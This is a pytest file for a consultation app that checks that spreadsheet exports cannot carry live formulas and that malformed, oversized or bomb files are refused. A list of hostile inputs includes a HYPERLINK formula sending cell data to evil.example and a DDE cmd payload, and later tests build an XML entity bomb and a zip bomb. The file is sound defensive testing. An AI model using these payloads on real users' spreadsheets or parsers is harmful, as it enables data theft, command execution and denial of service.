"""Files of inputs and attachments: formula-safe exports that import again unchanged, and odd or
oversized files refused with a clear reason instead of a crash."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable

import pytest
from docx import Document
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from sqlalchemy.orm import Session

from stocktake.accounts.services import issue_token, principal_for
from stocktake.consultation.files import (
    MAX_COLUMNS,
    MAX_ROWS,
    extract_text,
    read_inputs,
    write_inputs,
)
from stocktake.consultation.models import Input
from stocktake.consultation.services import InputData, import_inputs, submit_input
from stocktake.consultation.services.queries import InputFilter, iter_inputs
from stocktake.core.errors import ValidationFailed
from stocktake.core.permissions import Principal, Role
from stocktake.process.services import get_process
from tests.factories.accounts import account

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "=1+1",
    "'=already quoted",
    "'Tis the season of portability.",
]


def _hostile_inputs(session: Session) -> list[Input]:
    process = get_process(session)
    records = []
    for number, title in enumerate(HOSTILE):
        records.append(
            submit_input(
                session,
                process,
                InputData(
                    text=f"{title} — text of hostile input {number}",
                    submitter="MEX",
                    title=title,
                ),
                by=Principal.system(),
            )
        )
    return records


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_never_carry_a_live_formula_and_import_again_unchanged(
    bare_session: Session, fmt: str
) -> None:
    records = _hostile_inputs(bare_session)
    buffer = io.BytesIO()
    write_inputs(records, fmt, buffer)
    if fmt == "csv":
        cells = [
            value for row in csv.reader(io.StringIO(buffer.getvalue().decode())) for value in row
        ]
    else:
        sheet = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        cells = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t"))]
    rows = read_inputs(buffer.getvalue(), f"export.{fmt}")
    assert [data.title for _, data in rows] == HOSTILE
    assert [data.text for _, data in rows] == [r.text for r in records]
    report = import_inputs(
        bare_session, get_process(bare_session), rows, by=Principal.system(), source=f"export.{fmt}"
    )
    assert (report.created, report.unchanged) == (0, len(records))


def test_a_json_export_is_left_as_it_is(bare_session: Session) -> None:
    records = _hostile_inputs(bare_session)
    buffer = io.BytesIO()
    write_inputs(records, "json", buffer)
    rows = read_inputs(buffer.getvalue(), "export.json")
    assert [data.title for _, data in rows] == HOSTILE


def test_the_public_export_of_published_inputs_is_formula_safe(session: Session) -> None:
    process = get_process(session)
    records = iter_inputs(session, process, InputFilter(), by=Principal.public())[:50]
    buffer = io.BytesIO()
    write_inputs(records, "csv", buffer)
    assert "\n=" not in buffer.getvalue().decode()


def _xlsx(rows: list[list[object]]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_odd_files_of_inputs_are_refused_with_a_reason() -> None:
    with pytest.raises(ValidationFailed, match="column 'text' appears 2 times"):
        read_inputs(b"submitter,text,text\nKEN,a,b\n", "twice.csv")
    with pytest.raises(ValidationFailed, match="longer than 131,072 characters"):
        read_inputs(b"submitter,text\nKEN," + b"a" * 140_000 + b"\n", "long.csv")
    with pytest.raises(ValidationFailed, match="line 2: contains a NUL character"):
        read_inputs(b"submitter,text\nKEN,a\x00b\n", "nul.csv")
    with pytest.raises(ValidationFailed, match=r"row 2, column B: is a formula"):
        read_inputs(_xlsx([["submitter", "text"], ["KEN", "=1+2"]]), "formula.xlsx")
    with pytest.raises(ValidationFailed, match="column 'text' appears 2 times"):
        read_inputs(_xlsx([["submitter", "text", "text"], ["KEN", "a", "b"]]), "twice.xlsx")
    with pytest.raises(ValidationFailed, match=f"columns; at most {MAX_COLUMNS}"):
        read_inputs(
            _xlsx([["submitter", "text", *[f"c{i}" for i in range(MAX_COLUMNS)]]]), "wide.xlsx"
        )


def _rewritten(content: bytes, change: Callable[[str, bytes], bytes]) -> bytes:
    """The workbook or document with each part passed through `change`, as other tools write it."""
    rewritten = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(rewritten, "w") as target:
        for item in source.infolist():
            target.writestr(item, change(item.filename, source.read(item)))
    return rewritten.getvalue()


def _stale(content: bytes, dimension: str = "A1:B2") -> bytes:
    """The workbook with its sheet's declared dimension rewritten to `dimension`."""

    def change(name: str, data: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return data
        return re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{dimension}"'.encode(), data)

    return _rewritten(content, change)


def _tall(rows: int) -> bytes:
    """A workbook of `rows` inputs, its sheet written straight as XML, declaring only A1:B2."""
    cells = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>KEN</t></is></c>'
        f'<c r="B{n}" t="inlineStr"><is><t>input {n}</t></is></c></row>'
        for n in range(2, rows + 2)
    ).encode()

    def change(name: str, data: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return data
        return data.replace(b"</sheetData>", cells + b"</sheetData>")

    return _stale(_rewritten(_xlsx([["submitter", "text"]]), change))


def test_a_stale_dimension_hides_no_row(bare_client: TestClient, bare_session: Session) -> None:
    rows: list[list[object]] = [["submitter", "text"]]
    rows += [["KEN", f"Input {n} of a workbook with a stale dimension"] for n in range(1, 6)]
    content = _stale(_xlsx(rows))
    assert b'<dimension ref="A1:B2"' in zipfile.ZipFile(io.BytesIO(content)).read(
        "xl/worksheets/sheet1.xml"
    )
    assert len(read_inputs(content, "stale.xlsx")) == 5
    secretariat = account(bare_session, Role.SECRETARIAT)
    token = issue_token(bare_session, secretariat, by=principal_for(secretariat))
    response = bare_client.post(
        "/api/v1/inputs/import",
        headers={"Authorization": f"Bearer {token}"},
        files={"file": ("stale.xlsx", content)},
    )
    assert response.status_code == 201, response.text
    assert response.json()["created"] == 5


def test_the_row_limit_counts_the_rows_read_and_stops_there() -> None:
    content = _tall(250_000)
    with pytest.raises(ValidationFailed) as caught:
        read_inputs(content, "tall.xlsx", max_rows=1_000)
    assert "row 1002: the sheet has more than 1,000 rows" in str(caught.value)
    assert "at most 1,000 are read from one file" in str(caught.value)
    # a dimension that declares more rows than the limit refuses nothing by itself
    declared = _stale(_xlsx([["submitter", "text"], ["KEN", "a"]]), f"A1:B{MAX_ROWS + 5}")
    assert len(read_inputs(declared, "declared.xlsx")) == 1


def test_an_xlsx_entity_bomb_is_refused_not_a_crash() -> None:
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row>'
        b"</sheetData></worksheet>"
    )
    content = io.BytesIO()
    original = io.BytesIO(_xlsx([["submitter", "text"]]))
    with zipfile.ZipFile(original) as source, zipfile.ZipFile(content, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            target.writestr(item, bomb if item.filename == "xl/worksheets/sheet1.xml" else data)
    with pytest.raises(ValidationFailed):
        read_inputs(content.getvalue(), "bomb.xlsx")


def _docx(text: str) -> bytes:
    document = Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def test_attachment_text_is_capped_with_a_clear_message() -> None:
    assert extract_text(_docx("A short contribution."), "ok.docx") == "A short contribution."
    with pytest.raises(ValidationFailed, match="longer than the limit of 1,000 characters"):
        extract_text(_docx("word " * 1000), "long.docx", max_chars=1000)
    with pytest.raises(ValidationFailed, match="longer than the limit"):
        extract_text(b"x" * 2000, "long.txt", max_chars=1000)
    with pytest.raises(ValidationFailed, match="not a readable DOCX file"):
        extract_text(b"PK\x03\x04 broken", "broken.docx")
    assert extract_text(b"a\x00b", "nul.txt") == "ab"


def test_a_docx_that_unpacks_to_too_much_is_refused_before_it_is_parsed() -> None:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b" " * (201 * 2**20))
    assert len(content.getvalue()) < 2**20
    with pytest.raises(ValidationFailed, match="unpacks to"):
        extract_text(content.getvalue(), "bomb.docx")


def test_a_cell_a_spreadsheet_made_a_date_reads_as_it_was_typed() -> None:
    """A spreadsheet turns a typed "2018-12-10" or "12345" into a date or a number; the import
    reads them back as typed, not as "2018-12-10 00:00:00" or "12345.0"."""
    content = _xlsx(
        [
            ["submitter", "title", "text"],
            ["KEN", dt.datetime(2018, 12, 10), "Adopted in Marrakech."],  # noqa: DTZ001  (naive, as a sheet)
            ["KEN", "A number", 12345.0],
            ["KEN", dt.date(2018, 12, 19), "Endorsed by the General Assembly."],
        ]
    )
    titles = [(data.title, data.text) for _, data in read_inputs(content, "dates.xlsx")]
    assert titles[0][0] == "2018-12-10"
    assert titles[1][1] == "12345"
    assert titles[2][0] == "2018-12-19"
